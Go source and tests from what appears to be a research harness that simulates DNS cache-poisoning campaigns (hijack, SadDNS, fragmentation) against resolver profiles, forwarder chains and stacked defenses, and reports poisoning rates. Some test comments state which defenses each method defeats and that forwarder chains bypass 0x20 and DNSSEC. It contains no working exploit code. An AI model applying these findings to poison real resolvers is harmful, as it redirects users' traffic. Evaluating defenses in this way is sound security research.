		// Non-empty filter whose every entry trimmed away: reject
		// rather than silently sweep zero cells.
		return nil, fmt.Errorf("campaign: %s filter has no usable keys", dim)
	}
	var out []T
	for _, e := range all {
		if wanted[strings.ToLower(key(e))] {
			out = append(out, e)
			delete(wanted, strings.ToLower(key(e)))
		}
	}
	if len(wanted) > 0 {
		unknown := make([]string, 0, len(wanted))
		for k := range wanted {
			unknown = append(unknown, k)
		}
		sort.Strings(unknown)
		valid := make([]string, 0, len(all))
		for _, e := range all {
			valid = append(valid, key(e))
		}
		return nil, fmt.Errorf("campaign: unknown %s key(s): %s (valid: %s)",
			dim, strings.Join(unknown, ", "), strings.Join(valid, ", "))
	}
	return out, nil
}

// baseScenarioConfig is the per-trial starting point every cell
// specialises: explicit server defaults so method Prepare and defense
// Apply both mutate fields of a known baseline.
func baseScenarioConfig(seed int64, prof resolver.Profile) scenario.Config {
	cfg := scenario.Config{Seed: seed, Profile: prof}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	return cfg
}
