package campaign_test

import (
	"reflect"
	"testing"

	"crosslayer/internal/apps"
	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
)

func TestCellPlanFullProductAndOrder(t *testing.T) {
	cells, err := campaign.Cells(campaign.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	want := len(campaign.Methods()) * len(apps.Victims()) * len(campaign.Profiles()) *
		len(campaign.DefaultDefenseSets()) * len(campaign.ChainDepths()) * len(campaign.Placements()) *
		len(campaign.Transports())
	if len(cells) != want {
		t.Fatalf("full product has %d cells, want %d", len(cells), want)
	}
	// Deterministic order: transports vary fastest, methods slowest.
	if cells[0].Key() != "hijack/radius/bind/none/0/stub/udp" {
		t.Fatalf("first cell %q", cells[0].Key())
	}
	if cells[1].Transport.Key == cells[0].Transport.Key {
		t.Fatal("transport dimension does not vary fastest")
	}
	if cells[1].Placement.Key != cells[0].Placement.Key {
		t.Fatal("placement must vary slower than transport")
	}
	if cells[1].Depth.Key != cells[0].Depth.Key {
		t.Fatal("chain depth must vary slower than placement")
	}
	seen := map[string]bool{}
	for _, c := range cells {
		k := c.Key()
		if seen[k] {
			t.Fatalf("duplicate cell %q", k)
		}
		seen[k] = true
	}
}

func TestCellFilterSelectsAndRejects(t *testing.T) {
	cells, err := campaign.Cells(campaign.Filter{
		Methods: []string{"FRAG"}, Victims: []string{" web "},
		Profiles: []string{"bind", "dnsmasq"}, Defenses: []string{"none"},
		ChainDepths: []string{"0"}, Placements: []string{"stub"},
		Transports: []string{"udp"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(cells) != 2 {
		t.Fatalf("filtered plan has %d cells, want 2", len(cells))
	}
	for _, c := range cells {
		if c.Method.Key != "frag" || c.Victim.Key != "web" || c.Defenses.Key != "none" ||
			c.Depth.Key != "0" || c.Placement.Key != "stub" {
			t.Fatalf("stray cell %q", c.Key())
		}
	}
	if _, err := campaign.Cells(campaign.Filter{Victims: []string{"nosuch"}}); err == nil {
		t.Fatal("unknown victim key accepted")
	}
	if _, err := campaign.Cells(campaign.Filter{Methods: []string{"hijack", "typo"}}); err == nil {
		t.Fatal("unknown method key accepted")
	}
	if _, err := campaign.Cells(campaign.Filter{ChainDepths: []string{"9"}}); err == nil {
		t.Fatal("unknown chain depth accepted")
	}
	if _, err := campaign.Cells(campaign.Filter{Placements: []string{"satellite"}}); err == nil {
		t.Fatal("unknown placement accepted")
	}
	if _, err := campaign.Cells(campaign.Filter{Transports: []string{"quic"}}); err == nil {
		t.Fatal("unknown transport accepted")
	}
}

// TestCampaignByteIdenticalAcrossParallelism is the acceptance
// contract end-to-end: the same (Seed, Trials, Filter) must render a
// byte-identical matrix — and identical raw cell results — for any
// worker count.
func TestCampaignByteIdenticalAcrossParallelism(t *testing.T) {
	base := campaign.Config{
		Exec: measure.Config{Seed: 11, Parallelism: 1},
		Filter: campaign.Filter{
			Methods:     []string{"hijack", "frag"},
			Victims:     []string{"web", "ocsp"},
			Profiles:    []string{"bind", "dnsmasq"},
			ChainDepths: []string{"1"},
			Placements:  []string{"carrier"},
			Transports:  []string{"udp", "dot"},
		},
		Trials:      2,
		LatticeRank: 1,
	}
	refRes, err := campaign.Run(base)
	if err != nil {
		t.Fatal(err)
	}
	ref := campaign.Matrix(refRes).String()
	if ref == "" {
		t.Fatal("empty reference matrix")
	}
	for _, p := range []int{2, 8} {
		cfg := base
		cfg.Exec.Parallelism = p
		res, err := campaign.Run(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if got := campaign.Matrix(res).String(); got != ref {
			t.Fatalf("parallelism %d changed matrix bytes:\n--- p=1\n%s\n--- p=%d\n%s", p, ref, p, got)
		}
		if !reflect.DeepEqual(res, refRes) {
			t.Fatalf("parallelism %d changed raw cell results", p)
		}
	}
}

// TestCampaignFilterStability pins the identity-seeding property: a
// filtered sweep must reproduce exactly the numbers of a broader
// sweep for the cells they share — filtering never renumbers, so it
// never reseeds. The chain-depth and placement axes are part of the
// identity, so a depth/placement-filtered sweep reproduces full-sweep
// cells the same way.
func TestCampaignFilterStability(t *testing.T) {
	broad, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 12},
		Filter: campaign.Filter{Methods: []string{"hijack"},
			Victims: []string{"web", "ntp"}, Profiles: []string{"bind"},
			ChainDepths: []string{"0", "2"}, Transports: []string{"udp", "dot", "mixed"}},
		Trials: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	narrow, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 12},
		Filter: campaign.Filter{Methods: []string{"hijack"},
			Victims: []string{"ntp"}, Profiles: []string{"bind"}, Defenses: []string{"none", "dnssec"},
			ChainDepths: []string{"2"}, Placements: []string{"carrier"},
			Transports: []string{"dot"}},
		Trials: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	cellKey := func(r campaign.CellResult) string {
		return r.Method + "/" + r.Victim + "/" + r.Profile + "/" + r.Defense + "/" + r.Depth + "/" + r.Placement + "/" + r.Transport
	}
	byKey := map[string]campaign.CellResult{}
	for _, r := range broad {
		byKey[cellKey(r)] = r
	}
	for _, r := range narrow {
		b, ok := byKey[cellKey(r)]
		if !ok {
			t.Fatalf("narrow cell %s missing from broad sweep", cellKey(r))
		}
		if !reflect.DeepEqual(r, b) {
			t.Fatalf("filtering changed cell %s:\n%+v\n%+v", cellKey(r), r, b)
		}
	}
}

// TestCampaignDefenseStory pins the matrix semantics on one victim ×
// profile column: each §6 defense stops exactly the methods the paper
// says it stops.
func TestCampaignDefenseStory(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 1},
		Filter: campaign.Filter{Victims: []string{"web"}, Profiles: []string{"bind"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports: []string{"udp"}},
		Trials:      2,
		LatticeRank: 1, // the historical scalar axis this test pins
	})
	if err != nil {
		t.Fatal(err)
	}
	rate := map[string]float64{}
	for _, r := range res {
		rate[r.Method+"/"+r.Defense] = r.Poisoned.Frac()
	}
	want := map[string]bool{ // does the method still poison under the defense?
		"hijack/none": true, "hijack/dnssec": false, "hijack/0x20": true, "hijack/no-rrl": true, "hijack/shuffle": true,
		"saddns/none": true, "saddns/dnssec": false, "saddns/0x20": false, "saddns/no-rrl": false, "saddns/shuffle": true,
		"frag/none": true, "frag/dnssec": false, "frag/0x20": true, "frag/no-rrl": true, "frag/shuffle": false,
	}
	for k, poisons := range want {
		got, ok := rate[k]
		if !ok {
			t.Fatalf("cell %s missing", k)
		}
		if poisons && got == 0 {
			t.Errorf("%s: method should still poison, rate 0", k)
		}
		if !poisons && got > 0 {
			t.Errorf("%s: defense should stop the method, rate %.0f%%", k, got*100)
		}
	}
	// Impact must track poisoning: a poisoned web cell yields the
	// Table 1 hijack outcome, a defended one does not.
	for _, r := range res {
		if r.Impact.Hits > r.Poisoned.Hits {
			t.Errorf("%s/%s: impact (%d) exceeds poisoned (%d)", r.Method, r.Defense, r.Impact.Hits, r.Poisoned.Hits)
		}
	}
}

// TestCampaignTrialsCappedBySampleCap: the measure.Config SampleCap
// bounds the per-cell sample like it bounds every other population.
func TestCampaignTrialsCappedBySampleCap(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 3, SampleCap: 1},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, Defenses: []string{"none"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports: []string{"udp"}},
		Trials: 5,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res) != 1 || res[0].Trials != 1 || res[0].Poisoned.Total != 1 {
		t.Fatalf("SampleCap did not cap trials: %+v", res)
	}
}

// TestCampaignVictimsMapToTable1 closes the registry ↔ Table 1 loop:
// every campaign victim reenacts a demonstration named by a Table 1
// row (the reverse direction — DemoNames naming real test functions —
// lives in internal/measure's consistency test).
func TestCampaignVictimsMapToTable1(t *testing.T) {
	demos := map[string]bool{}
	for _, row := range measure.Table1Rows() {
		demos[row.DemoName] = true
	}
	for _, v := range apps.Victims() {
		if !demos[v.DemoName] {
			t.Errorf("victim %q demo %q not named by any Table 1 row", v.Key, v.DemoName)
		}
	}
}

func TestCampaignProgressEvents(t *testing.T) {
	var events []measure.ProgressEvent
	_, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 4, Parallelism: 1,
			Progress: func(ev measure.ProgressEvent) { events = append(events, ev) }},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web", "ntp"},
			Profiles: []string{"bind"}, Defenses: []string{"none", "0x20"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports: []string{"udp"}},
		Trials: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(events) != 4 {
		t.Fatalf("%d progress events, want 4 (one per cell)", len(events))
	}
	last := events[len(events)-1]
	if last.Dataset != "campaign" || last.DoneShards != 4 || last.TotalShards != 4 || last.Items != 4 {
		t.Fatalf("final event %+v", last)
	}
}

// TestCellFilterRejectsWhitespaceOnly: a filter dimension whose every
// key trims away must error, not silently plan zero cells.
func TestCellFilterRejectsWhitespaceOnly(t *testing.T) {
	if _, err := campaign.Cells(campaign.Filter{Victims: []string{" ", ""}}); err == nil {
		t.Fatal("whitespace-only filter accepted")
	}
}

// TestCampaignChainStory pins the §4.3 result the chain axis exists
// for: resolver-side defenses protect the direct path (depth 0) but
// not a forwarder chain — SadDNS retargets the weakest hop, whose
// forwarder neither 0x20-encodes nor validates, and the per-hop cache
// serves the injected record to the client.
func TestCampaignChainStory(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 7},
		Filter: campaign.Filter{Methods: []string{"saddns"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, Defenses: []string{"none", "0x20", "dnssec"},
			ChainDepths: []string{"0", "1"}, Placements: []string{"stub"},
			Transports: []string{"udp"}},
		Trials: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	rate := map[string]float64{}
	for _, r := range res {
		rate[r.Defense+"/"+r.Depth] = r.Poisoned.Frac()
	}
	if rate["none/0"] == 0 {
		t.Error("saddns must poison the undefended direct path")
	}
	if rate["0x20/0"] > 0 || rate["dnssec/0"] > 0 {
		t.Errorf("resolver-side defenses must stop saddns at depth 0: 0x20=%.0f%% dnssec=%.0f%%",
			rate["0x20/0"]*100, rate["dnssec/0"]*100)
	}
	if rate["0x20/1"] == 0 || rate["dnssec/1"] == 0 {
		t.Errorf("a forwarder chain must bypass resolver-side defenses: 0x20=%.0f%% dnssec=%.0f%%",
			rate["0x20/1"]*100, rate["dnssec/1"]*100)
	}
	// Impact must ride along: the poisoned chain serves the client, so
	// the application-level outcome tracks the chain ground truth.
	for _, r := range res {
		if r.Depth == "1" && r.Impact.Hits != r.Poisoned.Hits {
			t.Errorf("depth-1 %s: impact %d != poisoned %d", r.Defense, r.Impact.Hits, r.Poisoned.Hits)
		}
	}
}

// TestCampaignChainDepthByteIdenticalAcrossParallelism is the
// chain-axis acceptance contract: a sweep over every depth and both
// placements renders byte-identical matrices — and depth tables — for
// any worker count.
func TestCampaignChainDepthByteIdenticalAcrossParallelism(t *testing.T) {
	base := campaign.Config{
		Exec: measure.Config{Seed: 21, Parallelism: 1},
		Filter: campaign.Filter{Methods: []string{"saddns"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, Defenses: []string{"none", "0x20"},
			Transports: []string{"udp"}},
		Trials: 2,
	}
	refRes, err := campaign.Run(base)
	if err != nil {
		t.Fatal(err)
	}
	if len(refRes) != len(campaign.ChainDepths())*len(campaign.Placements())*2 {
		t.Fatalf("unexpected cell count %d", len(refRes))
	}
	refMatrix := campaign.Matrix(refRes).String()
	refDepth := campaign.DepthTable(refRes).String()
	for _, p := range []int{3, 8} {
		cfg := base
		cfg.Exec.Parallelism = p
		res, err := campaign.Run(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if got := campaign.Matrix(res).String(); got != refMatrix {
			t.Fatalf("parallelism %d changed chain matrix bytes:\n--- p=1\n%s\n--- p=%d\n%s", p, refMatrix, p, got)
		}
		if got := campaign.DepthTable(res).String(); got != refDepth {
			t.Fatalf("parallelism %d changed depth table bytes", p)
		}
	}
}
