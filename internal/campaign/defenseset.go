package campaign

import (
	"fmt"
	"sort"
	"strings"

	"crosslayer/internal/scenario"
)

// DefenseSet is one set-valued point on the campaign's defense axis: a
// stack of §6 countermeasures applied together (after the method's
// Prepare) through the scenario's defense pipeline. The scalar axis of
// earlier revisions is the special case of rank <= 1: the empty set
// ("none") and the four singletons.
type DefenseSet struct {
	// Key is the set's canonical identity — the base-defense keys
	// sorted lexicographically and joined with "+" ("0x20+shuffle"),
	// or "none" for the empty set. Cell seeds derive from it, so a
	// set-filtered sweep reproduces full-sweep cells exactly.
	Key string
	// Specs is the stack in base-registry order, handed to
	// scenario.Config.Defenses. The canonical specs commute, so the
	// order is presentational (see scenario.DefenseSpec).
	Specs []scenario.DefenseSpec
}

// Rank returns the number of stacked defenses (0 for the undefended
// baseline).
func (s DefenseSet) Rank() int { return len(s.Specs) }

// NoDefenseKey is the canonical key of the empty defense set.
const NoDefenseKey = "none"

// DefenseSetKey canonicalises a list of base-defense keys into the
// set's identity: lowercased, deduplicated, sorted lexicographically,
// joined with "+"; the empty list maps to "none".
func DefenseSetKey(baseKeys []string) string {
	seen := map[string]bool{}
	var ks []string
	for _, k := range baseKeys {
		k = strings.ToLower(strings.TrimSpace(k))
		if k == "" || seen[k] {
			continue
		}
		seen[k] = true
		ks = append(ks, k)
	}
	if len(ks) == 0 {
		return NoDefenseKey
	}
	sort.Strings(ks)
	return strings.Join(ks, "+")
}

// canonicalSetKey normalises one user-written defense-set key:
// components split on "+", trimmed, lowercased, deduplicated and
// sorted, with "none" components dropped (so "none" itself, or
// "shuffle+0x20", both land on their canonical form).
func canonicalSetKey(key string) string {
	var parts []string
	for _, p := range strings.Split(key, "+") {
		if p = strings.ToLower(strings.TrimSpace(p)); p != "" && p != NoDefenseKey {
			parts = append(parts, p)
		}
	}
	return DefenseSetKey(parts)
}

// newDefenseSet builds the set over the given specs (assumed distinct,
// in base-registry order).
func newDefenseSet(specs []scenario.DefenseSpec) DefenseSet {
	keys := make([]string, len(specs))
	for i, d := range specs {
		keys[i] = d.Key
	}
	return DefenseSet{Key: DefenseSetKey(keys), Specs: specs}
}

// DefaultLatticeRank is the subset size the default lattice enumerates
// exhaustively: the empty set, every singleton and every pair — plus
// the full stack, appended so the sweep always measures the everything-
// on configuration.
const DefaultLatticeRank = 2

// DefenseSets enumerates the stacking lattice over the base defenses:
// every subset of size <= rank, ordered by rank and then by the base
// registry's combination order (so rank 1 reproduces the historical
// scalar axis order exactly). rank <= 0 selects the default lattice —
// DefaultLatticeRank plus the full stack; rank >= len(base) is the
// full power set.
func DefenseSets(base []scenario.DefenseSpec, rank int) []DefenseSet {
	withFullStack := rank <= 0
	if rank <= 0 {
		rank = DefaultLatticeRank
	}
	if rank > len(base) {
		rank = len(base)
	}
	var sets []DefenseSet
	seen := map[string]bool{}
	add := func(specs []scenario.DefenseSpec) {
		s := newDefenseSet(specs)
		if !seen[s.Key] {
			seen[s.Key] = true
			sets = append(sets, s)
		}
	}
	var combine func(start int, picked []scenario.DefenseSpec, size int)
	combine = func(start int, picked []scenario.DefenseSpec, size int) {
		if len(picked) == size {
			add(append([]scenario.DefenseSpec(nil), picked...))
			return
		}
		for i := start; i <= len(base)-(size-len(picked)); i++ {
			combine(i+1, append(picked, base[i]), size)
		}
	}
	for size := 0; size <= rank; size++ {
		combine(0, nil, size)
	}
	if withFullStack {
		add(append([]scenario.DefenseSpec(nil), base...))
	}
	return sets
}

// DefaultDefenseSets returns the default defense axis: the lattice
// over the full base registry at the default rank (singletons, pairs
// and the full stack, plus the undefended baseline).
func DefaultDefenseSets() []DefenseSet {
	return DefenseSets(scenario.BaseDefenses(), 0)
}

// defenseAxis plans the defense dimension of a sweep. With no filter
// it is the lattice over the full base registry at the given rank.
// Filter.Defenses restricts the base defenses the lattice is generated
// from ("none" is accepted and contributes nothing — the baseline is
// always part of the lattice); Filter.DefenseSets instead picks exact
// sets by canonical key out of the full power set, so any stack is
// addressable regardless of rank. The two filters are mutually
// exclusive.
func defenseAxis(f Filter, rank int) ([]DefenseSet, error) {
	base := scenario.BaseDefenses()
	if len(f.DefenseSets) > 0 {
		if len(f.Defenses) > 0 {
			return nil, fmt.Errorf("campaign: the defense filter and the defense-set filter are mutually exclusive; bound the lattice with base keys (-defenses) or pick exact stacks (-defense-sets), not both")
		}
		want := make([]string, 0, len(f.DefenseSets))
		for _, k := range f.DefenseSets {
			if k = strings.TrimSpace(k); k != "" {
				want = append(want, canonicalSetKey(k))
			}
		}
		if len(want) == 0 {
			// Non-empty filter whose every entry trimmed away: reject
			// rather than silently sweep the full lattice.
			return nil, fmt.Errorf("campaign: defense-set filter has no usable keys")
		}
		return selected("defense-set", DefenseSets(base, len(base)),
			func(s DefenseSet) string { return s.Key }, want)
	}
	if len(f.Defenses) > 0 {
		restricted, err := selectedBase(base, f.Defenses)
		if err != nil {
			return nil, err
		}
		base = restricted
	}
	return DefenseSets(base, rank), nil
}

// selectedBase restricts the stackable base registry to the wanted
// keys, preserving registry order. "none" is accepted for
// compatibility with the historical scalar axis and contributes no
// base defense (the empty set is always part of the lattice); it is
// modelled as a no-op registry entry so filter errors list it among
// the valid keys.
func selectedBase(base []scenario.DefenseSpec, want []string) ([]scenario.DefenseSpec, error) {
	reg := append([]scenario.DefenseSpec{{Key: NoDefenseKey}}, base...)
	sel, err := selected("defense", reg, func(d scenario.DefenseSpec) string { return d.Key }, want)
	if err != nil {
		return nil, err
	}
	var out []scenario.DefenseSpec
	for _, d := range sel {
		if d.Key != NoDefenseKey {
			out = append(out, d)
		}
	}
	return out, nil
}
