package campaign

import (
	"reflect"
	"strings"
	"testing"

	"crosslayer/internal/deploy"
	"crosslayer/internal/measure"
)

// deployFilter is the shared small sweep the deployment-axis tests
// run: one cell per dataset, cheap method, no chain.
func deployFilter(datasets ...string) Filter {
	return Filter{
		Methods: []string{"hijack"}, Victims: []string{"web"},
		Profiles: []string{"bind"}, Defenses: []string{"none"},
		ChainDepths: []string{"1"}, Placements: []string{"stub"},
		Transports: []string{"udp"}, Deployments: datasets,
	}
}

// TestCampaignDeployDefaultCanonical pins the axis's compatibility
// contract: an empty Deployments filter plans the canonical dataset
// ONLY (not the full axis, unlike every other dimension), and a
// canonical cell's identity key carries no deployment suffix — so
// every pre-axis sweep, cache key and checkpoint stays byte-identical.
func TestCampaignDeployDefaultCanonical(t *testing.T) {
	def, err := Cells(deployFilter())
	if err != nil {
		t.Fatal(err)
	}
	explicit, err := Cells(deployFilter(deploy.CanonicalKey))
	if err != nil {
		t.Fatal(err)
	}
	keys := func(cells []Cell) []string {
		out := make([]string, len(cells))
		for i, c := range cells {
			out[i] = c.Key()
		}
		return out
	}
	if !reflect.DeepEqual(keys(def), keys(explicit)) {
		t.Fatalf("empty Deployments filter must plan exactly the canonical dataset: %v vs %v",
			keys(def), keys(explicit))
	}
	if len(def) != 1 {
		t.Fatalf("expected 1 cell, got %d", len(def))
	}
	key := def[0].Key()
	if strings.Contains(key, deploy.CanonicalKey) {
		t.Fatalf("canonical cell key %q must not carry a deployment suffix", key)
	}
	all, err := Cells(deployFilter("canonical", "measured", "hardened"))
	if err != nil {
		t.Fatal(err)
	}
	if len(all) != 3 {
		t.Fatalf("expected 3 cells over the full deployment axis, got %d", len(all))
	}
	if all[0].Key() != key {
		t.Fatalf("canonical cell identity changed inside a deployment sweep: %q vs %q", all[0].Key(), key)
	}
	for _, c := range all[1:] {
		if !strings.HasSuffix(c.Key(), "/"+c.Deployment.Key) {
			t.Fatalf("sampled cell key %q must end in its dataset key %q", c.Key(), c.Deployment.Key)
		}
	}
}

// TestCampaignDeployUnknownKey pins the selected() error contract on
// the new axis: an unknown dataset key fails the plan, naming the
// dimension and listing every valid registry key.
func TestCampaignDeployUnknownKey(t *testing.T) {
	_, err := Cells(deployFilter("nosuch"))
	if err == nil {
		t.Fatal("unknown deployment key accepted")
	}
	msg := err.Error()
	if !strings.Contains(msg, "deployment") {
		t.Errorf("error %q must name the deployment dimension", msg)
	}
	for _, want := range []string{"canonical", "measured", "hardened"} {
		if !strings.Contains(msg, want) {
			t.Errorf("error %q must list valid key %q", msg, want)
		}
	}
}

// TestCampaignDeployByteIdenticalAcrossParallelism is the eighth-axis
// acceptance contract: a sweep over all three deployment datasets
// renders byte-identical matrices — and deploy tables — at any worker
// count, and a filtered sweep reproduces the full sweep's cells
// exactly (identity-derived sampling: dropping siblings never reseeds
// a surviving cell's trial populations).
func TestCampaignDeployByteIdenticalAcrossParallelism(t *testing.T) {
	base := Config{
		Exec:   measure.Config{Seed: 29, Parallelism: 1},
		Filter: deployFilter("canonical", "measured", "hardened"),
		Trials: 3,
	}
	ref, err := Run(base)
	if err != nil {
		t.Fatal(err)
	}
	refMatrix := Matrix(ref).String()
	refDeploy := DeployTable(ref).String()
	for _, p := range []int{3, 8} {
		cfg := base
		cfg.Exec.Parallelism = p
		res, err := Run(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if got := Matrix(res).String(); got != refMatrix {
			t.Fatalf("parallelism %d changed deploy matrix bytes:\n--- p=1\n%s\n--- p=%d\n%s", p, refMatrix, p, got)
		}
		if got := DeployTable(res).String(); got != refDeploy {
			t.Fatalf("parallelism %d changed deploy table bytes", p)
		}
	}
	filtered := base
	filtered.Filter.Deployments = []string{"measured"}
	sub, err := Run(filtered)
	if err != nil {
		t.Fatal(err)
	}
	if len(sub) != 1 {
		t.Fatalf("filtered sweep planned %d cells, want 1", len(sub))
	}
	var full *CellResult
	for i := range ref {
		if ref[i].Deployment == "measured" {
			full = &ref[i]
		}
	}
	if full == nil {
		t.Fatal("full sweep has no measured cell")
	}
	if !reflect.DeepEqual(sub[0], *full) {
		t.Fatalf("filtered measured cell diverges from full sweep:\nfiltered: %+v\nfull: %+v", sub[0], *full)
	}
}

// TestCampaignDeployRatesDiffer pins that sampling actually reaches
// the trial worlds: under the measured dataset some trials draw egress
// filtering (SAV) onto ASes the attack needs to spoof through, so the
// per-cell poisoning counts differ from the canonical world's — the
// whole point of replacing a binary toggle with a measured rate.
func TestCampaignDeployRatesDiffer(t *testing.T) {
	res, err := Run(Config{
		Exec: measure.Config{Seed: 3},
		Filter: Filter{
			Methods: []string{"saddns"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, Defenses: []string{"none"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports:  []string{"udp"},
			Deployments: []string{"canonical", "measured"},
		},
		Trials: 6,
	})
	if err != nil {
		t.Fatal(err)
	}
	rate := map[string]float64{}
	for _, r := range res {
		rate[deploymentOf(r)] = r.Poisoned.Frac()
	}
	if rate["canonical"] == 0 {
		t.Fatal("saddns must poison the undefended canonical world")
	}
	if rate["measured"] >= rate["canonical"] {
		t.Errorf("measured SAV deployment must block some spoofed trials: measured %.0f%% >= canonical %.0f%%",
			rate["measured"]*100, rate["canonical"]*100)
	}
}

// TestDeployTableRendersCI checks the report surface: the deploy
// section renders one ratio-ci column per dataset present, each cell
// in the Wilson pct±half-width form.
func TestDeployTableRendersCI(t *testing.T) {
	res, err := Run(Config{
		Exec:   measure.Config{Seed: 29},
		Filter: deployFilter("canonical", "measured"),
		Trials: 3,
	})
	if err != nil {
		t.Fatal(err)
	}
	out := DeployTable(res).String()
	for _, want := range []string{"canonical", "measured", "±", "hijack"} {
		if !strings.Contains(out, want) {
			t.Errorf("deploy table missing %q:\n%s", want, out)
		}
	}
}

// TestCampaignArenaPoolNodeRetention pins the satellite retention
// bound end to end: after a sweep returns its workers to an ArenaPool,
// every parked worker's clock-event and delivery-node freelists are
// trimmed to the pool's node cap.
func TestCampaignArenaPoolNodeRetention(t *testing.T) {
	arenas := &ArenaPool{MaxPoolNodes: 64}
	_, err := Run(Config{
		Exec:   measure.Config{Seed: 5},
		Filter: deployFilter("measured"),
		Trials: 2,
		Arenas: arenas,
	})
	if err != nil {
		t.Fatal(err)
	}
	arenas.mu.Lock()
	defer arenas.mu.Unlock()
	if len(arenas.free) == 0 {
		t.Fatal("sweep returned no workers to the pool")
	}
	for i, w := range arenas.free {
		if got := w.events.Retained(); got > 64 {
			t.Errorf("worker %d parked %d event nodes, cap 64", i, got)
		}
		if got := w.deliv.Retained(); got > 64 {
			t.Errorf("worker %d parked %d delivery nodes, cap 64", i, got)
		}
	}
}
