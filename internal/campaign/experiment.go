package campaign

import (
	"context"
	"strings"

	"crosslayer/internal/measure"
	"crosslayer/internal/report"
)

// This file registers the campaign sweep in the experiment registry:
// one "campaign" entry whose Report carries the full artifact family —
// the per-cell matrix, the method × defense summary, the chain-depth
// table and the two defense-lattice views — as named sections built
// from one run's cells.

func init() {
	report.Register(report.Experiment{
		Name:  "campaign",
		Title: "Campaign: method × victim × profile × defense-set × chain-depth × placement × transport sweep",
		Run:   runExperiment,
	})
}

// ConfigFromSpec projects the registry's uniform run Spec onto a
// campaign Config: the execution knobs ride measure.Config, the sweep
// dimensions become the Filter.
func ConfigFromSpec(spec report.Spec) Config {
	return Config{
		Exec: measure.ConfigFromSpec(spec),
		Filter: Filter{
			Methods:     spec.Methods,
			Victims:     spec.Victims,
			Profiles:    spec.Profiles,
			Defenses:    spec.Defenses,
			DefenseSets: spec.DefenseSets,
			ChainDepths: spec.ChainDepths,
			Placements:  spec.Placements,
			Transports:  spec.Transports,
			Deployments: spec.Deployments,
		},
		Trials:      spec.Trials,
		LatticeRank: spec.LatticeRank,
		Downgrade:   spec.Downgrade,
	}
}

// runExperiment executes the sweep and assembles the campaign Report:
// the sections of Matrix, Summary, DepthTable and Lattice over the
// same cells, plus the sweep parameters.
func runExperiment(ctx context.Context, spec report.Spec) (*report.Report, error) {
	cfg := ConfigFromSpec(spec)
	cells, err := RunContext(ctx, cfg)
	if err != nil {
		return nil, err
	}
	return Report(cells, spec), nil
}

// Report assembles the full campaign Report from a run's cells. The
// sections keep their renderer names ("matrix", "summary", "depth",
// "transport", "deploy", "lattice-sets", "lattice-marginal"), so
// section-level consumers — the golden suite pins each as its own text
// artifact — address them stably.
func Report(cells []CellResult, spec report.Spec) *report.Report {
	rep := report.New("campaign",
		"Campaign: method × victim × profile × defense-set × chain-depth × placement × transport sweep")
	report.BaseParams(rep, spec)
	addListParam(rep, "methods", spec.Methods)
	addListParam(rep, "victims", spec.Victims)
	addListParam(rep, "profiles", spec.Profiles)
	addListParam(rep, "defenses", spec.Defenses)
	addListParam(rep, "defense_sets", spec.DefenseSets)
	addListParam(rep, "chain_depths", spec.ChainDepths)
	addListParam(rep, "placements", spec.Placements)
	addListParam(rep, "transports", spec.Transports)
	addListParam(rep, "deployments", spec.Deployments)
	if spec.Trials != 0 {
		rep.AddParam("trials", spec.Trials)
	}
	if spec.LatticeRank != 0 {
		rep.AddParam("lattice_rank", spec.LatticeRank)
	}
	if spec.Downgrade {
		rep.AddParam("downgrade", true)
	}
	for _, sub := range []*report.Report{Matrix(cells), Summary(cells), DepthTable(cells), TransportTable(cells), DeployTable(cells), Lattice(cells)} {
		rep.Sections = append(rep.Sections, sub.Sections...)
	}
	return rep
}

// addListParam records a sweep dimension filter; empty means the full
// axis and is not recorded.
func addListParam(rep *report.Report, name string, keys []string) {
	if len(keys) > 0 {
		rep.AddParam(name, strings.Join(keys, ","))
	}
}
