package campaign

import (
	"strings"

	"crosslayer/internal/report"
	"crosslayer/internal/scenario"
	"crosslayer/internal/stats"
)

// Lattice builds the defense-stacking view of a campaign run as a
// two-section Report, the artifact pinned as
// testdata/golden/campaign_lattice.txt:
//
//   - "lattice-sets": one row per defense set in sweep order, one
//     poisoning-rate column per method, aggregated over victims,
//     profiles, chain depths and placements;
//   - "lattice-marginal": for each base defense d and each measured
//     subset S not containing d (with S ∪ {d} also measured), the
//     per-method drop in poisoning rate caused by stacking d on top
//     of S, in percentage points. Positive values mean d blocks
//     attacks the subset still let through; +0pp on an already-clean
//     subset means d is redundant there; an n/a cell means one side
//     was never measured.
//
// At lattice rank 1 the sets section degenerates to the historical
// scalar method × defense summary (transposed) and the marginal
// section only reports each defense against the undefended baseline.
func Lattice(results []CellResult) *report.Report {
	type mk struct{ method, set string }
	agg := map[mk]stats.Counter{}
	var methods, sets []string
	seenM, seenS := map[string]bool{}, map[string]bool{}
	for _, r := range results {
		if !seenM[r.Method] {
			seenM[r.Method] = true
			methods = append(methods, r.Method)
		}
		if !seenS[r.Defense] {
			seenS[r.Defense] = true
			sets = append(sets, r.Defense)
		}
		k := mk{r.Method, r.Defense}
		agg[k] = agg[k].Plus(r.Poisoned)
	}

